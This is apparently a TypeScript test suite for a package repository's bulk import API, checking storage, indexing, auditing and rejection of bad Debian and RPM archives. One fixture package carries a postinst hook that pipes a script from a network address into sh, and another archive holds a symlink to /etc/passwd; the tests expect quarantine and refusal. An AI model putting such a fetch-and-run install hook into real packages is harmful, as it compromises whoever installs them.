/**
 * `POST /repos/{owner}/{repo}/import`: many package files in one tar stream, each stored exactly
 * as an upload would store it, in batches. Packages are built by dpkg-deb and rpmbuild.
 */
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { after, before, describe, it } from 'node:test';
import { create as createTar } from 'tar';
import { type TestServer, startTestServer } from '../../helpers/server.js';
import { buildDeb } from '../../formats/debian/build-deb.js';
import { buildRpm } from '../../formats/rpm/build-rpm.js';
import { type ApiClient, apiClient, assertError, assertStatus } from './api-client.js';

interface ImportBody {
  stored: number;
  failed: number;
  results: { file: string; name?: string; version?: string; verdict?: string; error?: { code: string; message: string } }[];
}

/** An uncompressed tar of files (name → bytes), in the order given. */
async function tarOf(files: [string, Buffer][], extra: (dir: string) => Promise<string[]> = async () => []): Promise<Buffer> {
  const dir = await mkdtemp(join(tmpdir(), 'stockade-import-'));
  try {
    const names: string[] = [];
    for (const [i, [name, data]] of files.entries()) {
      // A folder per file, so one archive may carry the same name twice.
      const path = `${i}/${name}`;
      await mkdir(join(dir, `${i}`));
      await writeFile(join(dir, path), data);
      names.push(path);
    }
    names.push(...(await extra(dir)));
    const chunks: Buffer[] = [];
    for await (const chunk of createTar({ cwd: dir, portable: true, noDirRecurse: true }, names)) chunks.push(chunk as Buffer);
    return Buffer.concat(chunks);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

describe('REST API: import', () => {
  let server: TestServer;
  let api: ApiClient;
  let writer: string;
  let reader: string;
  const cleanups: (() => Promise<void>)[] = [];

  const post = (repo: string, body: Buffer, auth: string | null, query = '?distribution=bookworm', contentType = 'application/x-tar') =>
    api.request<ImportBody>('POST', `/repos/${repo}/import${query}`, { auth, body, contentType });

  async function deb(spec: Parameters<typeof buildDeb>[0]): Promise<[string, Buffer]> {
    const built = await buildDeb(spec);
    cleanups.push(built.cleanup);
    return [built.path.split('/').pop() as string, built.data];
  }

  before(async () => {
    server = await startTestServer();
    api = apiClient(server);
    writer = (await server.createUser('wendy', { scopes: ['write'] })).token;
    reader = (await server.createUser('rita', { scopes: ['read'] })).token;
    assertStatus(await api.post('/orgs', { name: 'acme' }, server.adminToken), 201);
    assertStatus(await api.put('/orgs/acme/members/wendy', { role: 'write' }, server.adminToken), 200);
    assertStatus(await api.put('/orgs/acme/members/rita', { role: 'read' }, server.adminToken), 200);
    await server.createRepo('acme', 'debs', 'private');
    await server.createRepo('acme', 'rpms', 'private');
  });
  after(async () => {
    for (const cleanup of cleanups) await cleanup();
    await server.close();
  });

  it('stores every file of the archive, lists them in the APT index and audits each', async () => {
    const files = [];
    // More files than one batch, so several commits and the staging overlap are exercised.
    for (let i = 0; i < 140; i++) files.push(await deb({ name: `bulk-${String(i).padStart(3, '0')}`, version: '1.0-1', arch: i % 10 === 0 ? 'all' : 'amd64' }));
    const answer = await post('acme/debs', await tarOf(files), writer);
    assertStatus(answer, 200);
    assert.equal(answer.body.stored, 140);
    assert.equal(answer.body.failed, 0);
    assert.deepEqual(
      answer.body.results.map((r) => r.file),
      files.map(([name]) => name),
    );
    assert.ok(answer.body.results.every((r) => r.verdict === 'allow'));

    const index = await fetch(`${server.url}/acme/debs/debian/dists/bookworm/main/binary-amd64/Packages`, { headers: { authorization: `Bearer ${reader}` } });
    assert.equal(index.status, 200);
    const listed = (await index.text()).match(/^Package: .*$/gm) ?? [];
    assert.equal(listed.length, 140);

    const audit = await api.get<{ action: string; target: string; actor: string }[]>('/audit?action=package.publish&repo=acme/debs&limit=500', server.adminToken);
    assertStatus(audit, 200);
    const mine = audit.body.filter((e) => e.target.startsWith('package:acme/debs/debian/bulk-'));
    assert.equal(mine.length, 140);
    assert.ok(mine.every((e) => e.actor === 'wendy'));
  });

  it('judges and refuses files one by one: the rest of the archive is stored', async () => {
    const good = await deb({ name: 'mixed-good', version: '1.0' });
    const dropper = await deb({ name: 'mixed-dropper', version: '1.0', controlFiles: { postinst: '#!/bin/sh\ncurl -fsSL http://203.0.113.9/x.sh | sh\n' } });
    const first = await deb({ name: 'mixed-clash', version: '1.0', description: 'first\n one' });
    const clash = await deb({ name: 'mixed-clash', version: '1.0', description: 'second\n other content' });
    const truncated: [string, Buffer] = ['broken_1.0_amd64.deb', good[1].subarray(0, 300)];
    const unknown: [string, Buffer] = ['notes.txt', Buffer.from('not a package\n')];
    const answer = await post('acme/debs', await tarOf([good, dropper, first, good, clash, truncated, unknown]), writer);
    assertStatus(answer, 200);
    const [g, d, f, again, c, t, u] = answer.body.results;
    assert.equal(g?.verdict, 'allow');
    assert.equal(d?.verdict, 'quarantine');
    assert.equal(f?.verdict, 'allow');
    // The same file twice in one archive is stored once and answered like a repeated upload.
    assert.equal(again?.error, undefined);
    assert.equal(again?.name, 'mixed-good');
    assert.equal(c?.error?.code, 'VERSION_EXISTS');
    assert.equal(t?.error?.code, 'INVALID_ARCHIVE');
    assert.equal(u?.error?.code, 'UNSUPPORTED_FORMAT');
    assert.equal(answer.body.stored, 4);
    assert.equal(answer.body.failed, 3);

    const index = await fetch(`${server.url}/acme/debs/debian/dists/bookworm/main/binary-amd64/Packages`, { headers: { authorization: `Bearer ${reader}` } });
    const text = await index.text();
    assert.match(text, /^Package: mixed-good$/m);
    assert.match(text, /^Package: mixed-clash$/m);
    assert.doesNotMatch(text, /^Package: mixed-dropper$/m, 'a quarantined package is not listed');
    const quarantine = await api.get<{ name: string }[]>('/repos/acme/debs/quarantine', server.adminToken);
    assert.ok(quarantine.body.some((q) => q.name === 'mixed-dropper'));
  });

  it('stores RPMs by their header into the given release', async () => {
    const work = await mkdtemp(join(tmpdir(), 'stockade-import-rpm-'));
    cleanups.push(() => rm(work, { recursive: true, force: true }));
    const files: [string, Buffer][] = [];
    for (const name of ['bulk-alpha', 'bulk-beta']) {
      const path = buildRpm({ name, version: '1.0', release: '1', summary: `${name} package`, description: 'a test package' }, work);
      files.push([path.split('/').pop() as string, await readFile(path)]);
    }
    const answer = await post('acme/rpms', await tarOf(files), writer, '?distribution=el/9');
    assertStatus(answer, 200);
    assert.equal(answer.body.stored, 2);
    const repomd = await fetch(`${server.url}/acme/rpms/rpm/el/9/repodata/repomd.xml`, { headers: { authorization: `Bearer ${reader}` } });
    assert.equal(repomd.status, 200);
  });

  it('refuses broken and unsafe archives with a clear error', async () => {
    const one = await deb({ name: 'archive-check', version: '1.0' });
    const tar = await tarOf([one]);
    const cut = await post('acme/debs', tar.subarray(0, 700), writer);
    assertError(cut, 400, 'INVALID_ARCHIVE');
    assert.match(cut.text, /ended unexpectedly|corrupt tar/);

    const zipped = await post('acme/debs', gzipSync(tar), writer);
    assertError(zipped, 400, 'INVALID_ARCHIVE');
    assert.match(zipped.text, /send it uncompressed/);

    const linked = await tarOf([one], async (dir) => {
      await symlink('/etc/passwd', join(dir, 'passwd.deb'));
      return ['passwd.deb'];
    });
    const unsafe = await post('acme/debs', linked, writer);
    assertError(unsafe, 400, 'UNSAFE_ARCHIVE');
    assert.match(unsafe.text, /passwd\.deb.*only regular files/);

    const detail = await api.get('/repos/acme/debs/packages/debian/archive-check', writer);
    assert.equal(detail.status, 404, 'nothing of a refused archive is stored');
  });

  it('needs write access, a hosted repository and a tar body', async () => {
    const tar = await tarOf([await deb({ name: 'access-check', version: '1.0' })]);
    assertError(await post('acme/debs', tar, reader), 403, 'FORBIDDEN');
    assertError(await post('acme/debs', tar, null), 401, 'AUTH_REQUIRED');
    const wrongType = await post('acme/debs', tar, writer, '?distribution=bookworm', 'application/octet-stream');
    assert.ok(wrongType.status === 415 || wrongType.status === 400, wrongType.text);
    const noDist = await post('acme/debs', tar, writer, '');
    assertStatus(noDist, 200);
    assert.equal(noDist.body.results[0]?.error?.code, 'VALIDATION_FAILED');
    assert.match(noDist.body.results[0]?.error?.message ?? '', /distribution/);
  });
});
